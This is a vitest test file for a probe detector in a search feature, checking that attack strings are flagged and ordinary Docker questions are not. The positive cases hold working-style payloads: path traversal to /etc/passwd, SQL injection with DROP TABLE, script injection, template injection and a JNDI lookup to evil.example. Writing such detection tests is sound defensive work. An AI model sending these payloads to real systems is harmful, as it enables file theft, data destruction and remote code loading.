import { describe, expect, test } from 'vitest';
import { looksLikeProbe } from '../../../src/search/looks-like-probe.ts';

describe('looksLikeProbe', () => {
  test.each([
    ['path traversal', '../../../../etc/passwd'],
    ['path traversal, Windows style', '..\\..\\windows\\win.ini'],
    ['SQL injection', "'; DROP TABLE users; --"],
    ['SQL tautology', "admin' OR '1'='1"],
    ['SQL comment', "admin'; --"],
    ['UNION injection', '1 UNION SELECT password FROM users'],
    ['script injection', '<script>alert(1)</script>'],
    ['JNDI lookup', '${jndi:ldap://evil.example/a}'],
    ['template arithmetic', '{{7*7}}'],
  ])('GIVEN a %s THEN it is a probe', (_, text) => {
    expect(looksLikeProbe(text)).toBe(true);
  });

  test.each([
    ['a Go template for docker inspect', "docker inspect --format '{{.State.Status}}' web"],
    ['a Compose variable', 'how do i use ${TAG} in my compose file'],
    ['one relative path', 'docker run -v ../data:/data nginx'],
    ['quotes and semicolons', "i ran 'docker ps'; it lists nothing, what's wrong"],
    ['a database question', 'how do i keep my postgres tables when the container is removed'],
  ])('GIVEN %s THEN it is not a probe', (_, text) => {
    expect(looksLikeProbe(text)).toBe(false);
  });
});
